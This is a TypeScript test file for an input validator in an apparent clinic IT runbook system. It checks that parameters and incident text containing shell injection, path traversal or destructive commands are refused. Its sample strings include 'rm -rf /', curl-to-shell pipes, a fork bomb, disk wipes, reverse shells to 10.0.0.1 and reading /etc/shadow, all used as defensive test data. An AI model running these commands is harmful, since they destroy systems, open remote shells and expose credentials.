import { readFileSync } from "node:fs";
import { type Incident, isMspError, RunbookDefinition } from "@msp/shared";
import { describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { DANGEROUS_PATTERNS, scanString } from "./patterns.js";
import { createValidator, type Finding, type FindingCode, type Validated } from "./validator.js";

const runbook = (id: string) =>
  RunbookDefinition.parse(
    parseYaml(readFileSync(new URL(`../../../runbooks/${id}.yaml`, import.meta.url), "utf8")),
  );
const SERVICE = runbook("RB-SERVICE-001");
const CERT = runbook("RB-CERT-001");

const validator = createValidator({
  allowedServices: (clinic) => (clinic === "clinic-a" ? ["nginx", "postgresql@14", "backup-agent"] : []),
});

const incident = (over: Record<string, unknown> = {}, details: Record<string, unknown> = {}) => ({
  incident_id: "INC-20260301-0001",
  client_id: "clinic-a",
  hostname: "srv1",
  incident_type: "service_crash",
  severity: "high",
  detected_at: "2026-03-01T10:00:00Z",
  source: "drift_check",
  check_id: "services",
  details: {
    service_name: "nginx",
    exit_code: 137,
    message: "main process exited (code=killed)",
    ...details,
  },
  ...over,
});

const findingsOf = <T>(r: Validated<T>): Finding[] => {
  if (r.ok) throw new Error("expected findings");
  return r.findings;
};
const codesAt = (findings: Finding[], path: string) =>
  findings.filter((f) => f.path === path).map((f) => f.code);

describe("parameters (RB-SERVICE-001: service_name string, log_lines and verify_wait_seconds integers)", () => {
  it("passes good parameters and applies defaults", () => {
    expect(validator.params("clinic-a", SERVICE, { service_name: "postgresql@14" })).toEqual({
      ok: true,
      value: { service_name: "postgresql@14", log_lines: 20, verify_wait_seconds: 15 },
    });
    expect(validator.params("clinic-a", SERVICE, { service_name: "nginx", log_lines: "50" })).toMatchObject({
      ok: true,
      value: { log_lines: 50 },
    });
  });

  const bad: [string, Record<string, unknown>, string, FindingCode[]][] = [
    [
      "command chaining",
      { service_name: "nginx; rm -rf /" },
      "params.service_name",
      ["shell_metacharacter", "dangerous_pattern"],
    ],
    [
      "command substitution",
      { service_name: "$(curl x|sh)" },
      "params.service_name",
      ["shell_metacharacter", "dangerous_pattern"],
    ],
    ["backticks", { service_name: "`id`" }, "params.service_name", ["shell_metacharacter"]],
    [
      "path traversal",
      { service_name: "../../etc/passwd" },
      "params.service_name",
      ["path_traversal", "dangerous_pattern"],
    ],
    ["encoded traversal", { service_name: "%2e%2e/x" }, "params.service_name", ["path_traversal"]],
    ["null byte", { service_name: "nginx\u0000" }, "params.service_name", ["control_character"]],
    ["newline", { service_name: "nginx\nreboot" }, "params.service_name", ["control_character"]],
    [
      "full-width semicolon",
      { service_name: "nginx\uff1bid" },
      "params.service_name",
      ["shell_metacharacter"],
    ],
    ["oversized string", { service_name: "a".repeat(129) }, "params.service_name", ["oversized"]],
    ["unknown service", { service_name: "sshd" }, "params.service_name", ["unknown_service"]],
    ["pattern mismatch", { service_name: "-nginx" }, "params.service_name", ["pattern_mismatch"]],
    ["unknown parameter", { service_name: "nginx", command: "ls" }, "params.command", ["unknown_param"]],
    ["missing required", {}, "params.service_name", ["missing_param"]],
    ["wrong type (number for string)", { service_name: 42 }, "params.service_name", ["wrong_type"]],
    [
      "wrong type (string for integer)",
      { service_name: "nginx", log_lines: "many" },
      "params.log_lines",
      ["wrong_type"],
    ],
    ["wrong type (float)", { service_name: "nginx", log_lines: 2.5 }, "params.log_lines", ["wrong_type"]],
    ["out of range", { service_name: "nginx", log_lines: 201 }, "params.log_lines", ["out_of_range"]],
  ];
  it.each(bad)("refuses %s with a reason", (_, params, path, codes) => {
    const findings = findingsOf(validator.params("clinic-a", SERVICE, params));
    expect(codesAt(findings, path).sort()).toEqual([...codes].sort());
    for (const f of findings) expect(f.reason.length).toBeGreaterThan(5);
  });

  it("refuses every service in a clinic without an allow-list, and non-object parameters", () => {
    expect(
      codesAt(
        findingsOf(validator.params("clinic-b", SERVICE, { service_name: "nginx" })),
        "params.service_name",
      ),
    ).toEqual(["unknown_service"]);
    for (const p of [null, "service_name=nginx", ["nginx"], 7]) {
      expect(findingsOf(validator.params("clinic-a", SERVICE, p))).toEqual([
        { path: "params", code: "wrong_type", reason: "parameters must be an object of name -> value" },
      ]);
    }
    expect(codesAt(findingsOf(validator.params("../x", SERVICE, {})), "client_id")).toEqual(["schema"]);
  });

  it("quotes a hostile parameter name instead of putting it in the path raw", () => {
    const f = findingsOf(validator.params("clinic-a", SERVICE, { service_name: "nginx", "a\nb": 1 }));
    expect(f).toEqual([
      {
        path: 'params."a\\nb"',
        code: "unknown_param",
        reason: 'RB-SERVICE-001 declares no parameter "a\\nb"',
      },
    ]);
  });
});

describe("parameters (RB-CERT-001: paths, enum, boolean)", () => {
  const good = { cert_path: "/etc/msp/certs/web.pem", key_path: "/etc/msp/certs/web.key" };
  it("passes good values", () => {
    expect(
      validator.params("clinic-a", CERT, { ...good, renew_method: "acme", force_renew: "true" }),
    ).toMatchObject({
      ok: true,
      value: { ...good, renew_method: "acme", force_renew: true, renew_within_days: 30 },
    });
  });
  it.each([
    ["relative path", { key_path: "certs/web.key" }, "params.key_path", ["not_allowed"]],
    [
      "traversal in a path",
      { key_path: "/etc/msp/certs/../../shadow" },
      "params.key_path",
      ["path_traversal"],
    ],
    ["glob in a path", { key_path: "/etc/msp/certs/*" }, "params.key_path", ["shell_metacharacter"]],
    ["credential file", { key_path: "/etc/shadow" }, "params.key_path", ["dangerous_pattern"]],
    ["enum value not allowed", { renew_method: "curl" }, "params.renew_method", ["not_allowed"]],
    ["boolean given as a word", { force_renew: "yes" }, "params.force_renew", ["wrong_type"]],
  ])("refuses %s", (_, over, path, codes) => {
    expect(codesAt(findingsOf(validator.params("clinic-a", CERT, { ...good, ...over })), path)).toEqual(
      codes,
    );
  });
});

describe("incidents", () => {
  it("passes a good incident, with parentheses and quotes allowed in detail text", () => {
    const r = validator.incident(incident({}, { message: 'unit "nginx" exited (code=killed), see journal' }));
    expect(r.ok).toBe(true);
  });

  it.each([
    ["chained command", { message: "failed; rm -rf /" }, "details.message", ["dangerous_pattern"]],
    [
      "command substitution",
      { message: "$(curl x|sh)" },
      "details.message",
      ["shell_metacharacter", "dangerous_pattern"],
    ],
    ["backticks", { message: "`reboot`" }, "details.message", ["shell_metacharacter"]],
    ["traversal", { path: "../../etc/passwd" }, "details.path", ["path_traversal", "dangerous_pattern"]],
    ["null byte", { message: "ok\u0000" }, "details.message", ["control_character"]],
    [
      "dangerous command without metacharacters",
      { message: "please run mkfs.ext4 /dev/sda1" },
      "details.message",
      ["dangerous_pattern"],
    ],
    ["oversized detail", { message: "x".repeat(513) }, "details.message", ["oversized"]],
    ["unknown service", { service_name: "cryptominer" }, "details.service_name", ["unknown_service"]],
  ])("refuses %s", (_, details, path, codes) => {
    const findings = findingsOf(validator.incident(incident({}, details)));
    expect(codesAt(findings, path).sort()).toEqual([...codes].sort());
  });

  it("maps schema problems to findings and still scans the details", () => {
    const findings = findingsOf(
      validator.incident(
        incident(
          { hostname: "srv1;id", severity: 5, extra: true, incident_id: "INC-1" },
          { message: "a | sh" },
        ),
      ),
    );
    expect(codesAt(findings, "hostname")).toEqual(["schema"]);
    expect(codesAt(findings, "severity")).toEqual(["schema"]);
    expect(codesAt(findings, "incident_id")).toEqual(["schema"]);
    expect(findings.some((f) => f.reason.includes("extra"))).toBe(true);
    expect(codesAt(findings, "details.message")).toEqual(["shell_metacharacter"]);
    expect(findingsOf(validator.incident("not an incident"))).toEqual([
      { path: "(root)", code: "wrong_type", reason: expect.any(String) },
    ]);
  });

  it("flags oversized and wrongly typed top-level fields by kind", () => {
    const findings = findingsOf(validator.incident(incident({ hostname: "a".repeat(300), detected_at: 12 })));
    expect(codesAt(findings, "hostname")).toContain("oversized");
    expect(codesAt(findings, "detected_at")).toEqual(["wrong_type"]);
  });
});

describe("plans", () => {
  const inc = validator.incident(incident());
  if (!inc.ok) throw new Error("fixture incident must be valid");
  const ok: Incident = inc.value;

  it("passes a runbook triggered by the incident's type with good parameters", () => {
    expect(validator.plan(ok, SERVICE, { service_name: "nginx" }).ok).toBe(true);
  });
  it("refuses a runbook the incident's type does not trigger", () => {
    expect(findingsOf(validator.plan(ok, CERT, {}))).toEqual([
      {
        path: "runbook_id",
        code: "runbook_mismatch",
        reason: "RB-CERT-001 is not triggered by service_crash incidents",
      },
    ]);
  });
  it("checks services against the incident's clinic", () => {
    expect(
      findingsOf(validator.plan({ ...ok, client_id: "clinic-b" }, SERVICE, { service_name: "nginx" }))[0]
        ?.code,
    ).toBe("unknown_service");
  });
});

describe("dangerous patterns", () => {
  const samples: [string, string][] = [
    ["rm -rf", "rm -rf /var/lib"],
    ["rm -rf", "rm --no-preserve-root -r /"],
    ["mkfs", "mkfs -t ext4 /dev/sdb"],
    ["dd", "dd if=/dev/zero of=/dev/sda bs=1M"],
    ["curl | sh", "curl -s https://x.example/i | bash"],
    ["curl | sh", "wget -qO- x | sudo sh"],
    ["decoded payload", "echo Zm9v | base64 -d | sh"],
    ["fork bomb", ":(){ :|:& };:"],
    ["block device", "cat x > /dev/nvme0n1"],
    ["chmod 777", "chmod -R 777 /srv"],
    ["power", "shutdown -h now"],
    ["eval", "eval $x"],
    ["interpreter", "python3 -c 'import os'"],
    ["reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
    ["reverse shell", "nc -e /bin/sh 10.0.0.1 4242"],
    ["credential", "cat /etc/shadow"],
    ["firewall flush", "iptables -F"],
    ["log wiping", "history -c"],
    ["crontab", "crontab -r"],
  ];
  it.each(samples)("flags %s: %s", (_, text) => {
    expect(scanString(text, "text").map((f) => f.problem)).toContain("dangerous_pattern");
  });

  it("does not flag ordinary incident text", () => {
    for (const text of [
      "service shut down unexpectedly, needs reboot",
      "evaluation of backup failed with rc=2",
      "disk /var at 95% (threshold 90%)",
      "the rm step was skipped",
      "certificate for web.example.org expires in 5 days",
    ]) {
      expect(scanString(text, "text"), text).toEqual([]);
    }
    expect(DANGEROUS_PATTERNS.length).toBeGreaterThanOrEqual(10);
  });
});

describe("options", () => {
  it("fails fast on bad options", () => {
    for (const bad of [{}, { allowedServices: () => [], maxStringChars: 0 }]) {
      let caught: unknown;
      try {
        createValidator(bad as never);
      } catch (e) {
        caught = e;
      }
      expect(isMspError(caught, "config_invalid")).toBe(true);
    }
  });

  it("caps every string at maxStringChars, below a runbook's own max_length", () => {
    const strict = createValidator({ allowedServices: () => ["nginx"], maxStringChars: 8 });
    expect(
      codesAt(
        findingsOf(strict.params("clinic-a", SERVICE, { service_name: "nginx-web-1" })),
        "params.service_name",
      ),
    ).toEqual(["oversized"]);
  });

  it("accepts the prose of real drift findings (comparisons, semicolons) in incident details", () => {
    const v = createValidator({ allowedServices: () => [] });
    const r = v.incident({
      incident_id: "INC-20261121-0009",
      client_id: "clinic-a",
      hostname: "srv-1",
      incident_type: "disk_full",
      severity: "high",
      detected_at: "2026-11-21T10:00:00.000Z",
      source: "drift_check",
      details: { expected: "/var used <= 80%; >= 2 rules", observed: "a: 3 days left; b: 9 days left" },
    });
    expect(r.ok).toBe(true);
  });
});
